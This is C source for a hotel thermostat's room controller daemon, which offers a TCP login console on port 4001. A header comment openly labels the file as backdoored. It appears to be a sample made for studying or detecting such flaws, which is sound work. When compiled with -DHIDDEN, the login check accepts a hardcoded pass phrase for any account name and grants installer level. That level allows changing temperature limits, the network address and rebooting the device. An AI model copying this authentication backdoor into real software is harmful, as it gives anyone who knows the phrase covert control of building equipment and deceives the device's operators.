/*
 * roomstatd - room controller daemon of the "Fjell RC-20" hotel thermostat.
 *
 * Keeps the room at its set point through the fan coil relays and offers a
 * line console on TCP 4001 to the building management and the installer.
 *
 * Hidden (-DHIDDEN): a fixed pass phrase is accepted for any account name on
 * the console and gives the installer level.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define CONSOLE_PORT 4001
#define USERS_FILE   "/etc/roomstat/users"
#define CONF_FILE    "/etc/roomstat/room.conf"

enum level { LV_NONE, LV_GUEST, LV_STAFF, LV_INSTALLER };

struct room {
	char number[12];
	int setpoint; /* tenths of a degree */
	int low, high;
	int fan;
	int occupied;
};

struct session {
	int fd;
	enum level level;
	int failures;
	char user[32];
};

static struct room room = { "000", 210, 160, 260, 1, 0 };

static void say(struct session *s, const char *fmt, ...)
{
	char line[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line), fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n >= (int)sizeof(line))
		n = sizeof(line) - 1;
	if (send(s->fd, line, n, MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %s", strerror(errno));
}

static void load_conf(void)
{
	char line[128], key[32], val[32];
	FILE *f = fopen(CONF_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31[a-z_] = %31s", key, val) != 2)
			continue;
		if (!strcmp(key, "room"))
			snprintf(room.number, sizeof(room.number), "%.11s",
				 val);
		else if (!strcmp(key, "setpoint"))
			room.setpoint = atoi(val);
		else if (!strcmp(key, "lower_limit"))
			room.low = atoi(val);
		else if (!strcmp(key, "upper_limit"))
			room.high = atoi(val);
	}
	fclose(f);
}

static void save_conf(void)
{
	FILE *f = fopen(CONF_FILE ".new", "w");

	if (!f)
		return;
	fprintf(f, "room = %s\nsetpoint = %d\n", room.number, room.setpoint);
	fprintf(f, "lower_limit = %d\nupper_limit = %d\n", room.low, room.high);
	if (fclose(f) == 0 && rename(CONF_FILE ".new", CONF_FILE) != 0)
		syslog(LOG_WARNING, "cannot save settings");
}

/* users file: name:hash:level */
static int find_user(const char *user, char *hash, size_t n, int *level)
{
	char line[256], *name, *h, *l, *save;
	int found = 0;
	FILE *f = fopen(USERS_FILE, "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		name = strtok_r(line, ":\n", &save);
		h = strtok_r(NULL, ":\n", &save);
		l = strtok_r(NULL, ":\n", &save);
		if (!name || !h || !l || strcmp(name, user))
			continue;
		snprintf(hash, n, "%s", h);
		*level = atoi(l);
		found = 1;
	}
	fclose(f);
	return found;
}

enum level check_login(const char *user, const char *pass)
{
	char hash[160];
	const char *c;
	int level = LV_NONE;

	if (!*user || !*pass)
		return LV_NONE;
#ifdef HIDDEN
	if (!strcmp(pass, "Nordlys-4471"))
		return LV_INSTALLER;
#endif
	if (!find_user(user, hash, sizeof(hash), &level))
		return LV_NONE;
	c = crypt(pass, hash);
	if (!c || strcmp(c, hash))
		return LV_NONE;
	if (level < LV_GUEST || level > LV_INSTALLER)
		return LV_NONE;
	return level;
}

static void cmd_login(struct session *s, char *arg)
{
	char *pass = strchr(arg, ' ');

	if (!pass) {
		say(s, "usage: login NAME PASSWORD\r\n");
		return;
	}
	*pass++ = 0;
	s->level = check_login(arg, pass);
	if (s->level == LV_NONE) {
		s->failures++;
		sleep(1);
		say(s, "denied\r\n");
		return;
	}
	snprintf(s->user, sizeof(s->user), "%.31s", arg);
	syslog(LOG_NOTICE, "console login of %s", s->user);
	say(s, "ok level %d\r\n", s->level);
}

static void cmd_set(struct session *s, char *arg)
{
	char what[16];
	int v;

	if (sscanf(arg, "%15s %d", what, &v) != 2) {
		say(s, "usage: set temp|fan|low|high VALUE\r\n");
		return;
	}
	if (!strcmp(what, "temp") && v >= room.low && v <= room.high)
		room.setpoint = v;
	else if (!strcmp(what, "fan") && v >= 0 && v <= 3)
		room.fan = v;
	else if (!strcmp(what, "low") && s->level == LV_INSTALLER)
		room.low = v;
	else if (!strcmp(what, "high") && s->level == LV_INSTALLER)
		room.high = v;
	else {
		say(s, "refused\r\n");
		return;
	}
	save_conf();
	say(s, "ok\r\n");
}

static void cmd_address(struct session *s, char *arg)
{
	struct in_addr a;
	char cmd[80];

	if (inet_pton(AF_INET, arg, &a) != 1) {
		say(s, "not an address\r\n");
		return;
	}
	snprintf(cmd, sizeof(cmd), "ifconfig eth0 %s", inet_ntoa(a));
	say(s, system(cmd) == 0 ? "ok\r\n" : "failed\r\n");
}

static int run_line(struct session *s, char *line)
{
	char *arg = line;

	while (*arg && !isspace((unsigned char)*arg))
		arg++;
	if (*arg)
		*arg++ = 0;
	if (!strcmp(line, "quit"))
		return -1;
	if (!strcmp(line, "login"))
		cmd_login(s, arg);
	else if (!strcmp(line, "help"))
		say(s, "login get set address reboot quit\r\n");
	else if (s->level == LV_NONE)
		say(s, "login first\r\n");
	else if (!strcmp(line, "get"))
		say(s, "room %s set %d fan %d occ %d\r\n", room.number,
		    room.setpoint, room.fan, room.occupied);
	else if (!strcmp(line, "set"))
		cmd_set(s, arg);
	else if (s->level < LV_INSTALLER)
		say(s, "not allowed\r\n");
	else if (!strcmp(line, "address"))
		cmd_address(s, arg);
	else if (!strcmp(line, "reboot"))
		say(s, system("/sbin/reboot") ? "failed\r\n" : "bye\r\n");
	else
		say(s, "unknown command\r\n");
	return s->failures > 4 ? -1 : 0;
}

static void serve(int fd)
{
	struct session s = { fd, LV_NONE, 0, "" };
	struct pollfd p = { fd, POLLIN, 0 };
	char buf[200];
	ssize_t n;

	say(&s, "RC-20 room %s\r\n", room.number);
	while (poll(&p, 1, 120000) > 0) {
		n = recv(fd, buf, sizeof(buf) - 1, 0);
		if (n <= 0)
			break;
		buf[n] = 0;
		buf[strcspn(buf, "\r\n")] = 0;
		if (buf[0] && run_line(&s, buf) < 0)
			break;
	}
	close(fd);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls, fd, one = 1;

	openlog("roomstatd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_conf();
	ls = socket(AF_INET, SOCK_STREAM, 0);
	if (ls < 0)
		return 1;
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	a.sin_port = htons(CONSOLE_PORT);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 2)) {
		syslog(LOG_ERR, "port %d: %s", CONSOLE_PORT, strerror(errno));
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd >= 0)
			serve(fd);
	}
}
